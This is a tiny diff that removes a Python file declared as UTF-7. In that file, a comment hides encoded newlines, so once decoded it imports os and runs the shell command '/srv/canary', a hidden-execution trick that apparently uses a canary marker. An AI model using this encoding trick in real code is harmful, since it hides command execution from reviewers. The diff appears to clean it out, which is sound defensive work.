@@ -1,2 +1,0 @@
-# coding: utf-7
-rows = 1 # +AAo-import os+AAo-os.system("/srv/canary")
